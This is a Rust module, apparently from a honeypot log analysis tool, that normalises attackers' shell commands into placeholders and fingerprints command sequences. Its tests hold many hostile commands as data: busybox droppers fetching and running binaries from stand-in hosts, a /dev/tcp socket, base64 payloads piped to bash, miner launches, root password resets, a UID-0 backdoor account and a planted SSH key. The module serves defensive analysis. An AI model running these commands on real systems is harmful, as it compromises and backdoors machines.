//! Normalises commands: replaces what varies between runs of one attack, i.e. addresses, links, keys,
//! passwords and names of dropped files.
//!
//! | placeholder  | replaces   |
//! |--------------|------------|
//! | `<url>`      | a link; an address or, for `wget` and `curl`, a host with or without a path |
//! | `<ip>`       | an IPv4 or IPv6 address, with its port; a host that `tftp` or `ftpget` is given |
//! | `<email>`    | a name, `@` and a host's name |
//! | `<hex>`      | bytes written as `\x7f` or `\177`, with printable characters between them; 8 or more hexadecimal digits |
//! | `<base64>`   | 24 or more characters of base64 |
//! | `<sshkey>`   | the blob of an SSH public key; its type and comment stay, because they identify the attacker |
//! | `<password>` | what is echoed into `passwd` or `chpasswd`, given to `useradd -p`, `sshpass -p`, `openssl passwd`, `curl -u` or any `--password`, or written to `/tmp/up.txt`; a password's hash |
//! | `<file>`     | a path outside the system's directories, or a hidden or random one within; a bare name that is fetched, run, removed, redirected to or made executable; a name with the extension of a script, program or archive |
//! | `<random>`   | a random name, and an applet that busybox does not have |
//! | `<n>`        | a number that is a word of its own |
//!
//! These stay: case, flags (`-9`, `-n1`), variables and `$4`, modes after `chmod`, numbers of streams
//! (`2>&1`), and the system's own paths and names (`/proc/cpuinfo`, `~/.ssh/authorized_keys`). Runs of white
//! space become one space, a line end becomes `␤`, a repeated placeholder is written once, and control
//! characters become their Unicode pictures. Whether a name is a file depends only on its own command line: an
//! attack that fetches `sh` and one that fetches `x` give the same result.
//!
//! **Invariant**: normalising is idempotent, for any text, and takes time linear in its length.

mod known;
mod program;
mod scan;
mod word;

use std::borrow::Cow;

/// Incremented whenever [`normalise`] gives other results; stored beside every value derived from it.
pub const VERSION: i16 = 1;

/// Replaces what varies between runs of one attack by placeholders. The result has at most 4 KiB; a longer
/// one ends with `<cut>`.
pub fn normalise(command: &str) -> Cow<'_, str> {
    let normal = scan::Scanner::new(command).run();
    if normal == command { Cow::Borrowed(command) } else { Cow::Owned(normal) }
}

/// The fingerprint of a sequence of commands: of each command, normalised, and of their order.
pub fn sequence_fingerprint<'a>(commands: impl IntoIterator<Item = &'a str>) -> [u8; 16] {
    let mut hasher = blake3::Hasher::new();
    hasher.update(b"cowriestream sequence v1");
    for command in commands {
        let normal = normalise(command);
        hasher.update(&(normal.len() as u64).to_le_bytes()).update(normal.as_bytes());
    }
    let mut fingerprint = [0; 16];
    hasher.finalize_xof().fill(&mut fingerprint);
    fingerprint
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    const KEY: &str =
        "AAAAB3NzaC1yc2EAAAADAQABAAABAQC7d1Jx0pXw4mQ9vR2sT8uK3nLfYbH6oZ5cGqEiVtWa+DSkM/PrNyUjBhXlOeCz";

    /// One example for each kind seen in real logs, with other names.
    const ATTACKS: &[(&str, &str)] = &[
        // Mirai and its descendants.
        ("/bin/busybox QWERT", "/bin/busybox <random>"),
        (
            "/bin/busybox wget http://198.51.100.7:8080/bins/x.arm7 -O /tmp/.x; /bin/busybox ZXCVB",
            "/bin/busybox wget <url> -O <file>; /bin/busybox <random>",
        ),
        ("cat /proc/mounts; /bin/busybox FGHJK", "cat /proc/mounts; /bin/busybox <random>"),
        (
            "cd /dev/shm; cat .s || cp /bin/echo .s; /bin/busybox LKJHG",
            "cd /dev/shm; cat <file> || cp /bin/echo <file>; /bin/busybox <random>",
        ),
        (
            "dd bs=52 count=1 if=.s || cat .s || while read i; do echo $i; done < .s",
            "dd bs=<n> count=<n> if=<file> || cat <file> || while read i; do echo $i; done < <file>",
        ),
        (
            ">/var/run/.a && cd /var/run/; >/tmp/.a && cd /tmp/",
            "><file> && cd /var/run/; ><file> && cd /tmp/",
        ),
        (
            r"echo -ne '\x7f\x45\x4c\x46\x01\x01\x00' > upd; /bin/busybox chmod 777 upd",
            "echo -ne '<hex>' > <file>; /bin/busybox chmod 777 <file>",
        ),
        (r#"echo -en "\\x31\\x33\\x33\\x37""#, r#"echo -en "<hex>""#),
        (r"echo -ne '\177ELF\001\x00T' >> .d", "echo -ne '<hex>' >> <file>"),
        (r"echo -e '\x47\x72\x6f\x70/tmp' > /tmp/.n", "echo -e '<hex>/tmp' > <file>"),
        ("/ab3kdwe91f", "<file>"),
        // Fetch and run.
        (
            "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://198.51.100.7/ah; curl -O http://198.51.100.7/ah; chmod 777 ah; sh ah; tftp 198.51.100.7 -c get b.sh; tftp -r .sh -g 198.51.100.7; ftpget -v -u anonymous -p anonymous -P 21 198.51.100.7 f1.sh f1.sh; rm -rf ah b.sh; rm -rf *",
            "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget <url>; curl -O <url>; chmod 777 <file>; sh <file>; tftp <ip> -c get <file>; tftp -r <file> -g <ip>; ftpget -v -u anonymous -p anonymous -P <n> <ip> <file>; rm -rf <file>; rm -rf *",
        ),
        (
            "wget evil.example/x.sh; tftp evil.example -c get x.sh; curl evil.example",
            "wget <url>; tftp <ip> -c get <file>; curl <url>",
        ),
        ("wget 203.0.113.9/a/b || curl 203.0.113.9:81/a?b=c", "wget <url> || curl <url>"),
        (
            "chmod +x ./.50771/sshd;nohup ./.50771/sshd 192.0.2.1 192.0.2.2 192.0.2.3 &",
            "chmod +x <file>;nohup <file> <ip> &",
        ),
        (
            "cd /tmp && chmod +x TmqWwR7A && bash -c ./TmqWwR7A",
            "cd /tmp && chmod +x <file> && bash -c <file>",
        ),
        ("scp -qt \"/tmp/qwRt81Zb\"", "scp -qt \"<file>\""),
        ("bash -c \"wget -qO- https://x.example/i.sh | sh\"", "bash -c \"wget -qO- <url> | sh\""),
        ("exec 3<>/dev/tcp/192.0.2.8/443", "exec <n><>/dev/tcp/<ip>"),
        (
            "sleep 15s && echo \"IyEvYmluL3NoCmNkIC90bXAKcm0gLXJmIC5zc2gKd2dldA==\" | base64 --decode | bash",
            "sleep 15s && echo \"<base64>\" | base64 --decode | bash",
        ),
        (
            "./xmrig -o stratum+tcp://pool.example:3333 -u wallet --donate-level 1 --threads=4",
            "<file> -o <url> -u wallet --donate-level <n> --threads=<n>",
        ),
        ("pkill -9 xmrig; kill -9 4711; ls /proc/4711/exe", "pkill -9 xmrig; kill -9 <n>; ls /proc/<n>/exe"),
        // Passwords.
        (r#"echo "root:XyZ123abcDEF"|chpasswd|bash"#, "echo <password>|chpasswd|bash"),
        (r#"echo root:hello | sudo chpasswd"#, "echo <password> | sudo chpasswd"),
        (r#"echo -e "old\nnew;|&er\nnewer"|passwd|bash"#, "echo -e <password>|passwd|bash"),
        (
            r#"uname -a; printf 'a\na\n' | /usr/bin/passwd root; id"#,
            "uname -a; printf <password> | /usr/bin/passwd root; id",
        ),
        ("hunter2'|passwd|bash;", "<password>'|passwd|bash;"),
        (
            "useradd -o -u 0 -p '$1$ab$c' sys; sshpass -p \"a b\" ssh root@192.0.2.4",
            "useradd -o -u <n> -p '<password>' sys; sshpass -p \"<password>\" ssh root@<ip>",
        ),
        ("usermod -p `openssl passwd -1 secret` root", "usermod -p `openssl passwd -1 <password>` root"),
        ("echo 'x:$6$saltsalt$Zk3v.9/aB:0' >> /etc/shadow", "echo 'x:<password>:<n>' >> /etc/shadow"),
        ("chpasswd <<< 'root:pw'", "chpasswd <<< '<password>'"),
        ("passwd root << EOF\nold\nnew\n  EOF\nid", "passwd root <<EOF␤<password>␤EOF␤id"),
        ("chpasswd <<'E_1'\nroot:pw", "chpasswd <<E_1␤<password>"),
        ("chpasswd < /tmp/users", "chpasswd < <file>"),
        ("yes secret | passwd root", "yes <password> | passwd root"),
        (
            "usermod --password=secret root; sshpass -psecret id",
            "usermod --password=<password> root; sshpass -p<password> id",
        ),
        (
            "curl -u admin:secret -T x ftp://192.0.2.1; wget --http-password secret x.example",
            "curl -u <password> -T x <url>; wget --http-password <password> <url>",
        ),
        ("echo hi | mail someone@mail.example; ssh root@192.0.2.1", "echo hi | mail <email>; ssh root@<ip>"),
        ("echo a|'b;c d'|chpasswd", "echo a|'b;c d'|chpasswd"),
        (
            r#"echo "admin hunter2" > /tmp/up.txt; rm -rf /tmp/up.txt"#,
            "echo <password> > <file>; rm -rf <file>",
        ),
        ("cat /etc/passwd | grep root", "cat /etc/passwd | grep root"),
        // What distinguishes attacks stays.
        (
            "cat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5,$6,$7,$8,$9;}'",
            "cat /proc/cpuinfo | grep name | head -n <n> | awk '{print $4,$5,$6,$7,$8,$9;}'",
        ),
        ("uname -s -v -n -r -m 2>/dev/null >&2", "uname -s -v -n -r -m 2>/dev/null >&2"),
        ("cd ~; chattr -ia .ssh; lockr -ia .ssh", "cd ~; chattr -ia .ssh; lockr -ia .ssh"),
        (
            "chmod 600 ~/.ssh/authorized_keys && chmod -R go= ~/.ssh && chmod u=rwx /etc/passwd",
            "chmod 600 ~/.ssh/authorized_keys && chmod -R go= ~/.ssh && chmod u=rwx /etc/passwd",
        ),
        ("export HISTFILE=/dev/null; unset HISTORY", "export HISTFILE=/dev/null; unset HISTORY"),
        ("/ip cloud print", "/ip cloud print"),
        ("sed 's/^ *//;s/ *$//' | sha256sum", "sed 's/^ *//;s/ *$//' | sha256sum"),
        ("ls /usr/lib64/ /etc/init.d/.hid3 ~/.aws/credentials", "ls /usr/lib64/ <file> ~/.aws/credentials"),
        // Addresses and numbers.
        (
            "ping ::1; ping fe80::1%eth0; nc 2001:db8::7 80; date 12:30:45; nc 192.0.2.1:22",
            "ping <ip>; ping <ip>%eth0; nc <ip> <n>; date <n>:<n>:<n>; nc <ip>",
        ),
        ("echo 7f454c4601 aa:bb deadbeef 0x1f 3.14", "echo <hex> aa:bb deadbeef <n>"),
        ("  ls \t -la\r\n\n id \n", "ls -la␤id"),
        ("a\u{1}b\u{7f}c\u{202e}d", "a␁b␡c\u{fffd}d"),
        ("", ""),
    ];

    #[test]
    fn what_varies_becomes_a_placeholder() {
        for (command, normal) in ATTACKS {
            assert_eq!(normalise(command), *normal, "{command}");
            assert_eq!(normalise(normal), *normal, "again: {command}");
        }
    }

    #[test]
    fn a_planted_key_is_identified_by_its_comment() {
        let plant = |key: &str, who: &str| {
            normalise(&format!("echo \"ssh-rsa {key}== {who}\">>.ssh/authorized_keys")).into_owned()
        };
        assert_eq!(plant(KEY, "mdrfckr"), "echo \"ssh-rsa <sshkey> mdrfckr\">>.ssh/authorized_keys");
        assert_ne!(plant(KEY, "mdrfckr"), plant(KEY, "someone"));
    }

    #[test]
    fn a_normal_command_is_borrowed() {
        assert!(matches!(normalise("cat /proc/cpuinfo"), Cow::Borrowed(_)));
    }

    #[test]
    fn a_long_command_is_cut() {
        let normal = normalise(&"uname ".repeat(10_000)).into_owned();
        assert!(normal.ends_with(" uname <cut>") && normal.len() <= scan::LIMIT + 6);
        assert_eq!(normalise(&normal), normal);
        assert_eq!(normalise(&"é".repeat(5_000)), "<cut>");
        // Whether a word is a password depends on the character after `$`, which may be cut off.
        for length in 4_070..4_100 {
            let normal =
                normalise(&format!("{}useradd -p $(a", "x;".repeat(length / 2) + &"y".repeat(length % 2)))
                    .into_owned();
            assert_eq!(normalise(&normal), normal);
        }
    }

    #[test]
    fn sequences_are_frozen() {
        let first = sequence_fingerprint(["uname -a", "wget http://192.0.2.1/a; sh a"]);
        assert_eq!(first, sequence_fingerprint(["uname  -a", "wget http://192.0.2.2/b; sh b"]));
        assert_ne!(first, sequence_fingerprint(["wget http://192.0.2.1/a; sh a", "uname -a"]));
        assert_ne!(sequence_fingerprint(["a", "b"]), sequence_fingerprint(["a b"]));
        assert_eq!(format!("{:032x}", u128::from_be_bytes(first)), "2d61910dcb321a7556e3c2dca9b2c871");
    }

    /// If the time grew faster than the text, this test would not end.
    #[test]
    fn normalising_takes_linear_time() {
        for piece in [
            "a:",
            ":",
            "\\",
            "\\x4",
            "$1$",
            "'|passwd",
            "echo a|passwd;",
            "\u{feff}é",
            "fe80:",
            "-p '",
            "<",
            "a/",
            "a@",
            "/dev/tcp/",
            "/proc/1",
            "passwd <<E\n",
            "(",
            "useradd -p ",
            "1.",
            "a|",
        ] {
            normalise(&piece.repeat(1_000_000 / piece.len()));
        }
    }

    #[rustfmt::skip]
    fn piece() -> impl Strategy<Value = String> {
        let tokens = [
            "<", ">", "n>", "<n>", "<cut>", "<password>", "<file>", "<ip>", "<hex>", " ", " ", "\n", "␤", "'", "\"", "\\", "\\x41", "\\101", "|", ";",
            "&", ">&", "2>", "(", "`", "$", "$1$", "${", ":", "::", "://", "http", "1.2.3.4", "fe80::", ":80", "/", "/tmp/", "/etc/passwd", "./", ".",
            "..", "~/", "x9f3kq2", "TmqWwR7A", "abc", "echo ", "-e ", "passwd", "chpasswd", "| passwd", "openssl passwd -1 ", "useradd -p ",
            "busybox ", "/bin/busybox ", "chmod ", "777", "12", "wget ", "tftp -r ", "sh ", "rm ", "-c ", "=", "==", KEY,
            "IyEvYmluL2Jhc2gKY2QgL3RtcAkKcm0g", "deadbeef01", "\u{1}", "\u{85}", "\u{202e}", "é", "evil.com", "/dev/tcp/", "/proc/", "> /tmp/up.txt", "-", "@", ",",
            "*", "get ", "awk ", "go", "␁", "0x1f", "mdrfckr", "passwd <<E\nx\n", "<<E", "E", "\u{a0}", "curl -u ", "--password", "-px", "@b.example", "$(",
        ];
        prop_oneof![8 => prop::sample::select(tokens.to_vec()).prop_map(str::to_owned), 1 => any::<char>().prop_map(String::from), 1 => "[ -~]{1,4}"]
    }

    proptest! {
        #![proptest_config(ProptestConfig { failure_persistence: None, ..ProptestConfig::with_cases(4_000) })]

        #[test]
        fn normalising_twice_is_normalising_once(pieces in prop::collection::vec(piece(), 0..40), times in prop_oneof![9 => Just(1usize), 1 => Just(100)]) {
            let command = pieces.concat().repeat(times);
            let once = normalise(&command);
            prop_assert!(once.len() <= scan::LIMIT + '␤'.len_utf8() + scan::CUT.len());
            prop_assert!(!once.chars().any(char::is_control));
            prop_assert_eq!(&normalise(&once), &once, "{:?}", command);
        }
    }
}
